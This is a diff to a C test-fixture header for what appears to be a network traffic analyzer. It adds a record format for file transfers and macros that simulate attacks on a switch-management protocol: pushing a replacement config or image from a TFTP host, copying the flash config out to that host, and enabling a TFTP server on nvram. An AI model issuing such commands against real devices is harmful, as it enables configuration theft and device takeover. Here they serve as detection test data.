@@ -6,6 +6,10 @@
  *   m SECONDS FLOW A<D NAME EVENTS ...                                       the other side answers
  *   f SECONDS FLOW A>D FACTS CLIENT-BYTES SERVER-BYTES [MISSING-FROM-SERVER] the connection ended
  *
+ *   t SECONDS FLOW A>D STATE NAME WAY SIZE [g=GAP] [o=FLOW] [y=TYPE] [d=DIGIT]   A asked D for a file, or to take one
+ *
+ * WAY: c, the contents go to who asked, or s. STATE: closed, truncated, refused, unconfirmed. o: flow of the message
+ * that ordered it. d: what every byte of its MD5, or with messages of the reported MD5, is.
  * Facts: a accepted, r refused, c server closed, x server reset, s server not seen, u unfinished.
  * A and B are strangers, M a director, D, E, F devices; "-" stands for nothing, "_" in texts for a space.
  */
@@ -24,6 +28,11 @@ struct situation {
 #define PROBE "m 1 1 A>D capabilities_request probe\n"
 #define ACTIVE "m 1 1 A<D capabilities_response client_active\n"
 #define STEAL "m 10 2 A>D backup_request config_exfiltration " SIET "\n"
+
+#define PUSH "m 10 2 A>D download_config config_replacement u=tftp://198.51.100.7/my.conf\nf 10 2 A>D a 312 0\n"
+#define SEND "m 10 2 A>D backup_request config_exfiltration c=copy_flash:/config.text_tftp://198.51.100.7/d.conf\nf 10 2 A>D a 1048 0\n"
+#define SERVE "m 10 2 A>D backup_request config_exfiltration c=configure_tftp-server_nvram:startup-config\nf 10 2 A>D a 376 0\n"
+#define LIST "m 10 2 A>D download_image image_replacement u=tftp://198.51.100.7/list.txt\nf 10 2 A>D a 468 0\n"
 
 static const struct situation situations[] = {
     {"nothing", "", "", "", "", ""},
@@ -228,6 +237,7 @@ static const struct situation situations[] = {
      "m 1 3 A>F capabilities_request probe\nf 1 3 A>F a 24 0\n",
      "A>D probe attempted low unknown 1\nA>E probe attempted low unknown 1\nA>F probe attempted low unknown 1\n",
      "D unknown unknown\nE unknown unknown\nF unknown unknown\n"},
+#include "transfers.h"
 };
 
 #endif
